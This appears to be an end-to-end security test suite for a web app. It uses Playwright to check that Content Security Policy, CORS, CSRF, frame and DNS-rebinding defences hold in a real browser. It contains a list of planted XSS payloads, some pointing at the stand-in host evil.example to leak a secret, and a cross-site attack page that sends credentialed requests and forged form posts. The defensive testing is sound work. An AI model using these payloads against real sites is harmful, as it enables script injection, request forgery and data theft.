"""In a real browser: the policy hinders an attacker and not the app, and other sites' pages get nothing."""

from __future__ import annotations

import contextlib
import re
import socket
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import trustme
from harness import RedisServer
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from tests.e2e.conftest import CHROMIUM, CHROMIUM_FLAGS, Server

OpenTab = Callable[[str], Page]

COLLECT = """
    globalThis.violations = [];
    addEventListener('securitypolicyviolation', event =>
        violations.push([event.effectiveDirective, event.blockedURI]), true);
"""


def violations(page: Page) -> list[list[str]]:
    found: list[list[str]] = page.evaluate("violations")
    return found


def test_the_whole_app_is_used_without_a_violation(
    server: Server, context: BrowserContext, open_tab: OpenTab
) -> None:
    context.add_init_script(COLLECT)
    context.grant_permissions(["geolocation"])
    context.set_geolocation({"latitude": 48.8566, "longitude": 2.3522})
    page = open_tab(server.url)
    page.fill("#name", "ada")
    page.fill("#room", "a room of its own")
    page.press("#room", "Enter")
    expect(page.locator("#text")).to_be_enabled()
    page.fill("#text", "hello <b>you</b>")
    page.press("#text", "Enter")
    expect(page.locator("#log li").last).to_contain_text("hello <b>you</b>")
    page.click("#locate")
    expect(page.locator("#place")).to_contain_text("Paris")
    page.fill("#number", "12")
    page.press("#number", "Enter")
    expect(page.locator("#square-result")).to_contain_text("144")
    for summary in page.locator("summary").all():
        summary.click()
    # What an uncaught exception fetches.
    page.evaluate("import(document.querySelector('script[src]').src + '.detour.js').then(() => 0)")
    assert violations(page) == []


def test_the_way_around_websockets_is_no_violation(server: Server, context: BrowserContext) -> None:
    context.add_init_script(COLLECT)
    page = context.new_page()
    page.route_web_socket(re.compile("line"), lambda socket: socket.close())
    page.goto(server.url)
    expect(page.locator("#state")).to_have_text("connected", timeout=20_000)
    assert page.evaluate("square(5)") == 25
    assert violations(page) == []


PLANTED = {
    "an inline script": "<script>done = 1</script>",
    "a script of this host": "<script src='/_pystream/csp'></script>",
    "a script of another host": "<script src='https://evil.example/x.js'></script>",
    "a module": "<script type=module>done = 1</script>",
    "a guessed nonce": "<script nonce='AAAAAAAAAAAAAAAAAAAAAA'>done = 1</script>",
    "an attribute": "<img src='/nothing' onerror='done = 1'>",
    "a style": "<style>body { background: url(https://evil.example/) }</style>",
    "a style attribute": "<p style='color: red'>",
    "a frame": "<iframe src='https://evil.example'></iframe>",
    "a data frame": "<iframe src='data:text/html,<script>done = 1</script>'></iframe>",
    "an object": "<object data='/'></object>",
    "an image that tells": "<img src='https://evil.example/?secret'>",
    "a base": "<base href='https://evil.example/'>",
}


@pytest.mark.parametrize("what", PLANTED)
def test_what_is_planted_in_the_page_is_kept_from_running(
    what: str, server: Server, context: BrowserContext
) -> None:
    context.add_init_script(COLLECT)
    page = context.new_page()

    def plant(route: Route) -> None:
        real = route.fetch()
        route.fulfill(response=real, body=real.text().replace("<main>", PLANTED[what] + "<main>"))

    page.route(server.url + "/", plant)
    page.goto(server.url)
    expect(page.locator("#state")).to_have_text("connected")
    assert page.evaluate("typeof done") == "undefined"
    assert violations(page)


def test_our_own_scripts_make_no_code_of_text(server: Server, context: BrowserContext) -> None:
    context.add_init_script(COLLECT)
    page = context.new_page()
    tries = """
        globalThis.tried = Object.entries({
            eval: () => eval('done = 1'),
            Function: () => Function('done = 1')(),
            setTimeout: () => setTimeout('done = 1'),
            innerHTML: () => { document.body.innerHTML = '<img>'; },
            write: () => document.write('<p>'),
            href: () => { location.href = 'javascript:done = 1'; },
            srcdoc: () => { document.createElement('iframe').srcdoc = '<p>'; },
        }).map(([name, run]) => {
            try { run(); return [name, 'taken']; } catch (why) { return [name, why.name]; }
        });
    """

    def plant(route: Route) -> None:
        real = route.fetch()
        [nonce] = re.findall("'nonce-([^']+)' 'strict-dynamic'", real.headers["content-security-policy"])
        script = f'<script nonce="{nonce}">addEventListener("load", () => {{{tries}}})</script>'
        route.fulfill(response=real, body=real.text().replace("</head>", script + "</head>"))

    page.route(server.url + "/", plant)
    page.goto(server.url)
    page.wait_for_load_state("load")
    expect(page.locator("#state")).to_have_text("connected")
    tried = dict(page.evaluate("tried"))
    # A javascript: address is not refused when it is set, but when it is gone to.
    assert {name for name, said in tried.items() if said == "taken"} <= {"href"}
    assert page.evaluate("typeof done") == "undefined"
    assert "script-src-elem" in {directive for directive, _ in violations(page)}


def test_a_violation_reaches_the_servers_log(start: Callable[..., Server], context: BrowserContext) -> None:
    server = start()
    page = context.new_page()

    def plant(route: Route) -> None:
        real = route.fetch()
        route.fulfill(response=real, body=real.text().replace("<main>", "<script>done = 1</script><main>"))

    page.route(server.url + "/", plant)
    with page.expect_response(lambda response: response.url.endswith("/_pystream/csp")) as told:
        page.goto(server.url)
    assert told.value.status == 204
    context.close()
    server.stop()
    assert "a page was kept from 'script-src-elem' of 'inline'" in server.said


EVIL = """<!doctype html><title>evil</title><script>
const [, target] = location.hash.split('#');
const ws = target.replace('http', 'ws') + '/_pystream/line';
const ended = (what, good, bad) => new Promise(resolve => {
    what[good] = () => resolve('opened');
    what[bad] = () => resolve('refused');
});
const fetched = (path, options) => fetch(target + path, {credentials: 'include', ...options}).then(
    response => response.type === 'opaque' ? 'opaque' : 'read', () => 'refused');
const loaded = (tag, path) => new Promise(resolve => {
    const element = document.createElement(tag);
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('refused');
    element.src = target + path;
    document.body.append(element);
});
async function attack(asset) {
    return {
        websocket: await ended(new WebSocket(ws), 'onopen', 'onclose'),
        events: await ended(new EventSource(target + '/_pystream/events'), 'onopen', 'onerror'),
        events_with_cookies: await ended(
            new EventSource(target + '/_pystream/events', {withCredentials: true}), 'onopen', 'onerror'),
        read: await fetched('/'),
        read_opaque: await fetched('/', {mode: 'no-cors'}),
        events_opaque: await fetched('/_pystream/events', {mode: 'no-cors'}),
        post: await fetched('/_pystream/send', {method: 'POST', body: '["hello",2]'}),
        post_opaque: await fetched('/_pystream/send', {method: 'POST', body: '["hello",2]', mode: 'no-cors'}),
        put: await fetched('/', {method: 'PUT'}),
        header: await fetched('/_pystream/send', {method: 'POST', headers: {'Pystream-Line': 'x'}}),
        script: await loaded('script', '/assets/' + asset),
        opener: await new Promise(resolve => {
            const opened = open(target + '/');
            const looked = setInterval(() => {
                if (!opened.closed) return;
                clearInterval(looked);
                resolve('refused');
            }, 20);
        }),
    };
}
</script><body><form method=post enctype=text/plain><input name='["hello",2,"' value='"]'></form>"""


@pytest.fixture(scope="module")
def evil() -> Iterator[int]:
    """The port of another site's server."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(EVIL.encode())

        def log_message(self, *what: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as other:
        thread = threading.Thread(target=other.serve_forever)
        thread.start()
        yield other.server_address[1]
        other.shutdown()
        thread.join()


# To a browser another port of this very host is of the same site, and sends the cookies along.
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.localhost"])
def test_another_sites_page_gets_nothing_in_its_visitors_name(
    host: str, server: Server, evil: int, context: BrowserContext, open_tab: OpenTab
) -> None:
    visited = open_tab(server.url)  # so the browser has a session
    assert context.cookies(server.url)
    asset = visited.evaluate("document.querySelector('script[src]').src").rpartition("/")[2]
    page = context.new_page()
    page.goto(f"http://{host}:{evil}/#{server.url}")
    got = page.evaluate("asset => attack(asset)", asset)
    assert {what for what, said in got.items() if said != "refused"} == set()
    # A form is not held back by CORS.
    for path in ("/", "/_pystream/send", "/_pystream/csp"):
        page = context.new_page()
        page.goto(f"http://{host}:{evil}/#{server.url}")
        with page.expect_response(lambda told: told.request.method == "POST") as answer:
            page.evaluate(
                "path => { document.forms[0].action = path; document.forms[0].submit(); }", server.url + path
            )
        assert answer.value.status == 403


def test_another_sites_page_cannot_frame_ours(server: Server, evil: int, context: BrowserContext) -> None:
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda entry: said.append(entry.text))
    page.goto(f"http://127.0.0.1:{evil}/#{server.url}")
    with page.expect_console_message(
        lambda entry: "frame-ancestors" in entry.text or "X-Frame" in entry.text
    ):
        page.evaluate(
            "url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }",
            server.url,
        )


def test_a_name_that_leads_to_this_machine_reaches_nothing(server: Server, browser: Browser) -> None:
    flags = [*CHROMIUM_FLAGS, "--host-resolver-rules=MAP rebound.example 127.0.0.1"]
    rebound = browser.browser_type.launch(executable_path=CHROMIUM, args=flags)
    with contextlib.closing(rebound):
        page = rebound.new_page()
        answer = page.goto(f"http://rebound.example:{server.port}/")
        assert answer
        assert answer.status == 421
        tried = page.evaluate(
            """() => Promise.all([
                fetch('/_pystream/send', {method: 'POST'}).then(answer => answer.status),
                fetch('/').then(answer => answer.status),
                new Promise(resolve => {
                    const line = new WebSocket(`ws://${location.host}/_pystream/line`);
                    line.onopen = () => resolve('opened');
                    line.onclose = () => resolve('refused');
                }),
            ])"""
        )
        assert tried == [421, 421, "refused"]


@pytest.mark.parametrize("workers", [1, 2])
def test_the_app_runs_by_https_and_http_leads_there(
    workers: int,
    redis_server: RedisServer,
    start: Callable[..., Server],
    browser: Browser,
    tmp_path: Path,
) -> None:
    authority = trustme.CA()
    issued = authority.issue_cert("localhost", "127.0.0.1")
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    issued.cert_chain_pems[0].write_to_path(str(cert))
    issued.private_key_pem.write_to_path(str(key))
    with socket.create_server(("127.0.0.1", 0)) as free:
        plain = free.getsockname()[1]
    options = ["--tls-cert", str(cert), "--tls-key", str(key), "--redirect-port", str(plain)]
    if workers > 1:
        options += ["--workers", str(workers), "--redis", redis_server.url]
    server = start(0, *options)
    assert server.url.startswith("https://")
    with contextlib.closing(browser.new_context(ignore_https_errors=True)) as context:
        context.add_init_script(COLLECT)
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{plain}/?a=b")
        assert page.url == f"{server.url}/?a=b"
        expect(page.locator("#state")).to_have_text("connected")
        assert page.evaluate("square(5)") == 25
        [cookie] = context.cookies(server.url)
        assert (cookie["name"], cookie["secure"]) == ("__Host-pystream_session", True)
        assert violations(page) == []
    assert server.stop() == 0
